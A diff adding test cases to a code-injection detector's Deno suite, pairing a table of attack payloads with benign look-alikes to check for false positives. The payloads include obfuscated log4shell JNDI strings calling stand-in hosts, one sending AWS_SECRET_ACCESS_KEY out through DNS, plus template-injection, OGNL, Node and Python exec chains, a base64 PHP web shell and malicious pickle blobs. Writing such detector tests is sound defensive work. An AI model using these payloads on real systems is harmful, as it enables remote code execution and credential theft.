@@ -111,3 +111,110 @@ Deno.test("codeInjectionDetector: strict_keys widens the strict set; flag_probes
     0,
   );
 });
+
+/** Mechanisms the detector learned from a held-out set: each row a technique, not a sample. */
+const MORE_ATTACKS: [string, string, string][] = [
+  [
+    "user-agent",
+    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.9:1389/a}",
+    "log4shell",
+  ],
+  ["subject", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/o}", "log4shell"],
+  [
+    "message",
+    "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x.example/a}",
+    "log4shell",
+  ],
+  ["q", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "log4shell"],
+  ["q", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example}", "log4shell"],
+  [
+    "name",
+    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
+    "ognl",
+  ],
+  [
+    "expression",
+    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance()}",
+    "java_reflection",
+  ],
+  [
+    "param",
+    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance()}",
+    "ssti_java",
+  ],
+  ["template", '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")', "ssti_java"],
+  [
+    "template",
+    '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id")}',
+    "ssti_java",
+  ],
+  [
+    "body",
+    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x.example/a"}',
+    "java_gadget",
+  ],
+  ["template", "{{['id']|filter('system')}}", "ssti_filter_callback"],
+  ["text", '{{_self.env.registerUndefinedFilterCallback("exec")}}', "ssti_filter_callback"],
+  ["template", "{system('id')}", "ssti_smarty"],
+  ["template", "{php}echo `id`;{/php}", "ssti_smarty"],
+  ["template", "{% import os %}{{ os.popen('id').read() }}", "ssti_import"],
+  ["expression", "__builtins__.__dict__['__import__']('os').system('id')", "python_builtins"],
+  ["expression", "__import__('o'+'s').popen('id').read()", "python_exec_chain"],
+  ["note", "getattr(__import__('os'),'system')('id')", "python_exec_chain"],
+  ["greeting", 'require("child_"+"process").spawnSync("sh",["-c","id"])', "js_exec_chain"],
+  ["script", "import('child_process').then(m=>m.execSync('id'))", "js_exec_chain"],
+  ["script", "module.constructor._load('child_process').exec('id')", "js_exec_chain"],
+  ["text", '{{range.constructor("return global.process")()}}', "js_exec_chain"],
+  ["code", "process['mainModule']['require']('child_process')", "js_exec"],
+  ["content", "<?=`$_GET[0]`?>", "php_exec"],
+  ["page", "php://filter/convert.base64-encode/resource=index.php", "php_wrapper"],
+  ["page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "php_exec"],
+  ["page", "expect://id", "php_wrapper"],
+  ["yaml", "--- !ruby/object:Gem::Installer\ni: x\n", "yaml_language_tag"],
+  ["blob", "Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==", "pickle"],
+  ["blob", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", "pickle"],
+  ["template", '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")', "dotnet_exec"],
+  ["content", '<% Set o = CreateObject("WScript.Shell") %>', "dotnet_exec"],
+];
+
+/** Look-alikes: the same vocabulary in ordinary config, docs and code. */
+const MORE_BENIGN: [string, string][] = [
+  ["query", "how does log4j ${jndi} lookup vulnerability work"],
+  ["pattern", "%d{ISO8601} [%t] %-5level %logger{36} - %msg%n"],
+  ["file", "${sys:user.home}/logs/app-${date:yyyy-MM-dd}.log"],
+  ["text", "Use ${lower:foo} lookups in log4j2.xml; ${env:HOME:-/root} is a default"],
+  ["value", "#{systemProperties['user.region'] ?: 'eu'}"],
+  ["text", 'Class.forName("com.mysql.cj.jdbc.Driver") loads the driver'],
+  ["text", "Use Process.Start in C# to launch notepad"],
+  ["code", "const x = 'a' + 'b'; console.log(x)"],
+  ["code", "import os\nprint(os.getcwd())"],
+  [
+    "template",
+    "{{ product.price|number_format(2, '.', ',') }} {{ items|filter(i => i.ok)|length }}",
+  ],
+  ["template", "<h1>@Model.Title</h1> @if (Model.Items.Any()) { <ul></ul> }"],
+  ["content", "<?php echo htmlspecialchars($title); ?>"],
+  ["query", "php://stdin vs php://input difference"],
+  ["yaml", "date: !!timestamp 2024-05-01\ncount: !!int '3'\ntags: !!set {a, b}"],
+  ["data", "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IG9mIGJhc2U2NA=="],
+  ["state", "gAAAAABmXyZ3FernetTokenLikeValueAbcdefghijklmnop=="],
+  ["text", "see https://twig.symfony.com/doc/3.x/filters/filter.html"],
+  ["body", '{"@type":"Person","name":"Ada"}'],
+];
+
+Deno.test("codeInjectionDetector sees through lookups, concatenation and encodings to the mechanism", () => {
+  for (const [key, value, kind] of MORE_ATTACKS) {
+    const f = codeInjectionDetector.scan(value, at(key), opts);
+    assert.ok(
+      f.some((x) => x.kind === kind),
+      `expected ${kind} for ${key}=${value} (got ${f.map((x) => x.kind).join(",") || "none"})`,
+    );
+  }
+});
+
+Deno.test("codeInjectionDetector passes log patterns, property placeholders and code that only mention the names", () => {
+  for (const [key, value] of MORE_BENIGN) {
+    const f = codeInjectionDetector.scan(value, at(key), opts);
+    assert.deepEqual(f.map((x) => x.kind), [], `false positive for ${key}=${value}`);
+  }
+});
